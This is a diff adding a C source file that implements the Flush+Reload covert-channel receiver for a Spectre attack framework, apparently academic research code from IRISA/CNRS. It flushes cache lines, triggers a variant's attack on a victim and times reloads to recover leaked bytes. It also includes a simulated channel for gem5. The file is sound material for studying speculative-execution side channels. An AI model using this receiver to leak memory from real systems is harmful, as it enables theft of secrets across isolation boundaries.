@@ -0,0 +1,246 @@
+/**
+ * \brief  Receiver of the covert channel.
+ * \author Pierre AYOUB -- IRISA, CNRS
+ * \date   2020
+ *
+ * \details Flush+Reload receiver shared by all the Spectre variants: for
+ *          each try, flush the candidate lines of array2, let the variant
+ *          train and attack its victim, reload the lines and score the
+ *          cache hits, until a clear winner emerges.
+ */
+
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h> /* For memset(). */
+#include <stdint.h>
+
+/* Contain ARMv8 or x86-64 implementation of flush, rdtsc and [im]fence. */
+#include "asm.h"
+/* Used for \sa {struct candidates}. */
+#include "candidates.h"
+
+#include "receiver.h"
+
+/* * Functions: */
+
+/* ** Private functions: */
+
+/**
+ * \brief Build the subset of lines to probe during an adaptive try.
+ * \details Select the top_k candidates regarding their current scores, then
+ *          complete with "sample" other candidates taken from a window
+ *          rotating over the probing order, to avoid locking in a wrong
+ *          guess.
+ *
+ * \param ctx The attack context, whose "order" is filled.
+ * \param cursor Position of the rotating window, updated at each call.
+ * \return int Number of lines stored into the subset.
+ */
+static int probe_subset_build(struct spectre_ctx * ctx, int * cursor)
+{
+    const struct candidates * cand = ctx->candidates;
+    int sample = ctx->args.sample;
+    /* taken[c] is 1 if the candidate c is already in the subset. */
+    uint8_t taken[256] = {0};
+    int i, n, c, best;
+
+    /* Select the top_k candidates by repeated selection, since top_k is
+       expected to be small. */
+    for (n = 0; n < ctx->args.top_k && n < cand->count; n++) {
+        best = -1;
+        for (i = 0; i < cand->count; i++) {
+            c = cand->order[i];
+            if (!taken[c] && (best < 0 || SPREAD(ctx->results, c) > SPREAD(ctx->results, best)))
+                best = c;
+        }
+        taken[best] = 1;
+        SPREAD(ctx->order, n) = best;
+    }
+    /* Complete with the next candidates of the rotating window. */
+    for (i = 0; i < cand->count && sample > 0; i++) {
+        c = cand->order[*cursor];
+        *cursor = (*cursor + 1) % cand->count;
+        if (!taken[c]) {
+            taken[c] = 1;
+            SPREAD(ctx->order, n) = c;
+            n++;
+            sample--;
+        }
+    }
+    return n;
+}
+
+/**
+ * \brief Perform one try on the hardware: flush the candidates, train and
+ *        attack the victim (\sa {spectre_ctx_variant_init()}), and time the
+ *        reload of each candidate.
+ * \details Timing-critical region, kept unoptimized whatever the build
+ *          profile (\sa {HOT_PATH}).
+ *
+ * \param ctx The attack context, whose results are updated.
+ * \param count Number of lines of "order" to probe.
+ * \param training_x The legit offset given to array1.
+ * \param malicious_x The offset given to array1 during the attack.
+ * \return int Junk value, to be used by the caller so the reloads won't get
+ *             optimized out.
+ */
+static HOT_PATH HOT_SECTION("probe") int hw_try(struct spectre_ctx * ctx, int count, size_t training_x, size_t malicious_x)
+{
+    /* i, mix_i: Index array2 and results arrays.
+     * junk: Force non-optimization. */
+    int i, mix_i, junk = 0;
+    /* Used to compute the time taken by the access to a byte at "addr". */
+	register uint64_t time1, time2;
+	volatile uint8_t *addr;
+
+	/* Flush the array2[PAGESIZE * candidate] from the cache. */
+	for (i = 0; i < count; i++) {
+		flush(&ctx->array2[SPREAD(ctx->order, i) * PAGESIZE]);
+        /* Don't work if we not wait for completion here. Usually, these
+           two calls would be outside the loop. In this case, we need them
+           inside the loop to work on gem5. */
+        mfence();
+        ifence();
+    }
+
+    /* Attack execution, specific to the variant. */
+    ctx->attack(ctx, training_x, malicious_x);
+
+    /* Attack's data retrieval. */
+
+    /* Avoid speculative execution before the attack end. */
+    mfence();
+	/* Iterate over each candidate for the guessed byte. */
+	for (i = 0; i < count; i++) {
+        /* Order is mixed up to prevent stride prediction. */
+		mix_i = SPREAD(ctx->order, i);
+        /* Time the access to array2 for this possibility. */
+		addr = &ctx->array2[mix_i * PAGESIZE];
+		time1 = rdtsc();
+		junk = *addr; /* Could use "mem_acces(addr);" here. To be tested. TODO */
+		time2 = rdtsc() - time1;
+        /* If the access is a cache hit and the possibility isn't the
+           training one, it has a good chance to correspond to the
+           transiently accessed byte. Increase his score. */
+		if (time2 <= SPREAD(ctx->thresholds, mix_i) && mix_i != ctx->array1[training_x])
+			SPREAD(ctx->results, mix_i)++;
+	}
+    return junk;
+}
+
+/**
+ * \brief Perform one try against the simulated channel.
+ * \details Same steps as \sa {hw_try()} (flush, train and attack, probe),
+ *          but each step is answered by the model of \sa {struct sim_channel}.
+ *          It models the in-place PHT victim, the only variant accepted with
+ *          the simulated channel (\sa {spectre_ctx_channel_init()}).
+ *
+ * \param ctx The attack context, whose results are updated.
+ * \param count Number of lines of "order" to probe.
+ * \param training_x The legit offset given to array1.
+ * \param malicious_x The offset given to array1 during the attack.
+ */
+static void sim_try(struct spectre_ctx * ctx, int count, size_t training_x, size_t malicious_x)
+{
+    struct sim_channel * sim = ctx->sim;
+    int i, mix_i;
+
+    for (i = 0; i < count; i++)
+        sim_flush(sim, SPREAD(ctx->order, i));
+    /* Same pattern than the hardware try: 1 attack run every 6 runs. */
+    for (i = ctx->loops; i >= 0; i--)
+        sim_victim(sim, ctx->array1, ctx->array1_size, i % 6 ? training_x : malicious_x);
+    for (i = 0; i < count; i++) {
+        mix_i = SPREAD(ctx->order, i);
+        if (sim_probe(sim, mix_i) <= SPREAD(ctx->thresholds, mix_i) && mix_i != ctx->array1[training_x])
+            SPREAD(ctx->results, mix_i)++;
+    }
+}
+
+/* ** Public functions: */
+
+void receiver_read(struct spectre_ctx * ctx, size_t malicious_x, uint8_t * value, int * score, int * scores) {
+    /* Setup all the parameters at the beginning of the function. Important for
+       probability of success. */
+
+    /* Scores, tries and loops live in the context, in their own cache lines
+       (\sa {struct spectre_ctx} for why they can't be automatic). */
+    const struct candidates * cand = ctx->candidates;
+    ctx->tries = ctx->args.tries;
+    ctx->loops = ctx->args.loops;
+    /* i, mix_i: Index array2 and results arrays.
+     * i: Count the number of training and attacks.
+     * j, k: Search the best results.
+     * count: Number of candidates to probe.
+     * cursor: Rotating window used by the adaptive probing.
+     * pool: Index of the probing order used by the current try.
+     * junk: Force non-optimization. */
+    int i, mix_i, j, k, count, cursor = 0, pool = 0, junk = 0;
+    /* The legit offset given to array1. */
+	size_t training_x;
+
+    /* Initialize the results array. */
+    memset(ctx->results, 0, sizeof(ctx->results));
+    j = k = -1;
+    /* Do 999 attempts (by default) to guess the byte. */
+    for (; ctx->tries > 0; ctx->tries--) {
+        /* Attack preparation. */
+
+        /* Once a leader emerges, only probe the best candidates and a sample
+           of the others, except for the periodic full sweep. Otherwise, copy
+           one of the probing orders of all the candidates, precomputed by \sa
+           {candidates_pool_init()}, since the pool itself shares L1D sets
+           with the probe lines. */
+        if (ctx->args.top_k && j >= 0 && SPREAD(ctx->results, j) > 0 && (ctx->args.tries - ctx->tries) % ctx->args.sweep) {
+            count = probe_subset_build(ctx, &cursor);
+        } else {
+            count = cand->count;
+            for (i = 0; i < count; i++)
+                SPREAD(ctx->order, i) = cand->pool[pool][i];
+        }
+        /* Rotate over the pool of probing orders. */
+        if (++pool == cand->pool_size)
+            pool = 0;
+
+        /* The offset used for the training will walk the array1. */
+		training_x = ctx->tries % ctx->array1_size;
+        /* Attack execution and data retrieval, on the hardware or against
+           the simulated channel. */
+        if (ctx->sim)
+            sim_try(ctx, count, training_x, malicious_x);
+        else
+            junk ^= hw_try(ctx, count, training_x, malicious_x);
+
+        /* Attack's results estimation. */
+
+		/* Locate highest & second-highest results tallies and place their
+           index in j/k. */
+		j = k = -1;
+        /* Iterate over each candidates, even the ones not probed during this
+           try. */
+		for (i = 0; i < cand->count; i++) {
+            mix_i = cand->order[i];
+            /* If the best guess isn't initialized or if we find better. */
+			if (j < 0 || SPREAD(ctx->results, mix_i) >= SPREAD(ctx->results, j)) {
+				k = j;
+				j = mix_i;
+            /* If the 2nd best guess isn't initialized or if we find better. */ 
+			} else if (k < 0 || SPREAD(ctx->results, mix_i) >= SPREAD(ctx->results, k)) {
+				k = mix_i;
+			}
+		}
+        /* If we find that (1st's score > 2 * 2nd's score) or 2/0, we can say
+           that it's a clear success and stop the research to gain a lot of
+           speed. */
+		if (SPREAD(ctx->results, j) >= (2 * SPREAD(ctx->results, k)) || (SPREAD(ctx->results, j) == 2 && SPREAD(ctx->results, k) == 0))
+			break;
+	}
+
+    /* Store the best guess to report it to main. */
+	*value = (uint8_t) j;
+	*score = SPREAD(ctx->results, j);
+	if (scores)
+		for (i = 0; i < 256; i++)
+			scores[i] = SPREAD(ctx->results, i);
+	SPREAD(ctx->results, 0) ^= junk;  /* Use junk so code above won't get optimized out. */
+}